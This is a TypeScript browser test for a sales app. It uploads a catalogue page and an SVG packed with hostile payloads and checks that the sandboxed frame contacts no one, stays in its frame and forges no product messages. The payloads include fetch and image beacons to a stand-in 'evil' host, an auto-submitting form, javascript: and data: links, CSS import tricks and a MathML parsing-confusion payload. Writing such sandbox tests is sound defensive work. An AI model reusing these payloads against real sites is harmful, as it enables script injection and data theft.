import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { paths } from '#frontend/paths.ts';
import { buildTestZip } from '#tests/make/zip.ts';
import { openTestPage, signInByApi } from './open-test-page.ts';

/** Echo Ultrasonics, whose catalogue no other journey uses. */
const MANUFACTURER_ID = 15;

/** A server that no content of a catalogue may reach, and the requests that have reached it. */
async function startCanaryServer() {
  const receivedUrls: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    receivedUrls.push(url);
    response.setHeader('access-control-allow-origin', '*').end('heard');
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  return { address: `http://127.0.0.1:${port}`, heard: receivedUrls, stop: () => server.close() };
}

/** Every way of a page to send data, to load something, to navigate away, or to act as the product. */
const buildHostilePage = (evil: string) => `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/base/"><title>Tricks</title>
<link rel="stylesheet" href="${evil}/link.css"><link rel="prefetch" href="${evil}/prefetch">
<link rel="preconnect" href="${evil}"><link rel="preload" as="image" href="${evil}/preload"><link rel="icon" href="${evil}/icon">
<style>@import "${evil}/import.css"; @font-face{font-family:e;src:url(${evil}/font)} body{background:url(${evil}/css);font-family:e}
h1{background:u\\72l(${evil}/escaped)} h2{background:image-set("${evil}/set" 1x)} h1::after{content:url(${evil}/content)}</style>
<script>fetch('${evil}/script'); parent.postMessage({smartCatalog:1,page:1,kind:'product',place:0},'*')</script>
<script src="${evil}/script.js"></script></head>
<body onload="new Image().src='${evil}/onload'" background="${evil}/background">
<h1>Tricks</h1><h2>More</h2><img src="${evil}/img"><img src="x" onerror="new Image().src='${evil}/onerror'">
<img srcset="${evil}/srcset 1x"><picture><source srcset="${evil}/source"></picture><video poster="${evil}/poster" src="${evil}/video"></video>
<svg width="9" height="9"><image href="${evil}/svg"/><use href="${evil}/use#x"/><script>fetch('${evil}/svg-script')</script>
<foreignObject><img src="${evil}/foreign"></foreignObject><rect width="9" height="9" fill="url(${evil}/fill#x)"/></svg>
<iframe src="${evil}/iframe"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<p style="background:url(${evil}/style)">Styled</p><math><mtext><table><mglyph><style><img src="${evil}/mathml"></style></table></mtext></math>
<form action="${evil}/form"><input name="a" autofocus onfocus="this.form.submit()"><button>Send</button></form>
<a id="top" href="${evil}/top" target="_top" ping="${evil}/ping">Leave</a> <a id="js" href="javascript:top.location='${evil}/js'">Run</a>
<a id="html" href="data:text/html,<script>fetch('${evil}/data')</script>" target="_blank">Open</a> <img src="drawing.svg" alt="drawing">
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(%22${evil}/inline%22)'%3E%3Cimage href='${evil}/inline'/%3E%3C/svg%3E"><p style="background:url(data:text/css,@import%20%22${evil}/data-css%22)">x</p>
<a id="part" data-part="TRICK-1">TRICK-1</a></body></html>`;

const buildHostileDrawing = (evil: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="fetch('${evil}/drawn')"><style>@import "${evil}/drawn.css";</style>
<image href="${evil}/drawn-image" width="9" height="9"/><rect width="9" height="9"/></svg>`;

async function publishCatalog(page: Page, zip: Uint8Array<ArrayBuffer>) {
  const headers = {
    authorization: `Bearer ${await signInByApi(page, 'admin@smartsales.example')}`,
  };
  const name = 'tricks.zip';
  const file = { name, mimeType: 'application/zip', buffer: Buffer.from(zip) };
  const path = `/api/Manufacturers/${MANUFACTURER_ID}/SmartCatalogZip`;
  const sent = await page.request.post(path, { headers, multipart: { file } });
  expect(sent.status()).toBe(200);
  await expect
    .poll(async () => {
      const listed = await page.request.get(`/api/Uploads/smart-catalog/${MANUFACTURER_ID}`, {
        headers,
      });
      const uploads = (await listed.json()) as { FileName: string; Job?: { State: string } }[];
      return uploads.find(({ FileName }) => FileName === name)?.Job?.State;
    })
    .toBe('finished');
}

test('A catalogue full of tricks reaches nobody, neither leaves its frame nor speaks for the product', async () => {
  const canary = await startCanaryServer();
  // The console reports what the frame is denied.
  const page = await openTestPage({ expectedErrors: /sandbox|Content Security Policy|ERR_/ });
  const parts = [
    ['index.html', buildHostilePage(canary.address)],
    ['drawing.svg', buildHostileDrawing(canary.address)],
  ] as const;
  await publishCatalog(page, buildTestZip(parts));
  const headers = { authorization: `Bearer ${await signInByApi(page, 'rep@hsus.example')}` };
  const answer = await page.request.get(`/api/Manufacturers/${MANUFACTURER_ID}/SmartCatalog`, {
    headers,
  });
  const location = (await answer.json()) as string;
  expect(new URL(location).origin).not.toBe(new URL(page.url()).origin);

  await page.goto(paths.settings);
  const before = page.url();
  await page.evaluate((src) => {
    const heard: unknown[] = [];
    Object.assign(globalThis, { heard });
    addEventListener('message', ({ data, origin }) =>
      heard.push({ data: data as unknown, origin }),
    );
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    Object.assign(frame, { src, id: 'catalog', width: 900, height: 500 });
    document.body.prepend(frame);
  }, location);
  const heard = () => page.evaluate(() => (globalThis as unknown as { heard: object[] }).heard);
  const message = { smartCatalog: 1, page: 1 };
  const ready = { data: { ...message, kind: 'ready' }, origin: 'null' };
  const frame = page.frameLocator('#catalog');
  // Before its script no click does anything; the drawing pushes the last link down.
  await expect.poll(heard).toEqual([ready]);
  await expect
    .poll(() => frame.getByAltText('drawing').evaluate((it: HTMLImageElement) => it.complete))
    .toBe(true);
  for (const id of ['top', 'js', 'html', 'part'])
    await frame.locator(`#${id}`).click({ force: true });

  const ownWords = [
    ready,
    { data: { ...message, kind: 'out', place: 0 }, origin: 'null' },
    { data: { ...message, kind: 'product', place: 0 }, origin: 'null' },
  ];
  await expect.poll(heard).toEqual(ownWords);
  expect(page.url()).toBe(before);
  expect(page.context().pages()).toHaveLength(1);
  // Late requests have been sent by then.
  await page.waitForTimeout(500);
  expect(await heard()).toEqual(ownWords);
  expect(canary.heard).toEqual([]);
  canary.stop();
});
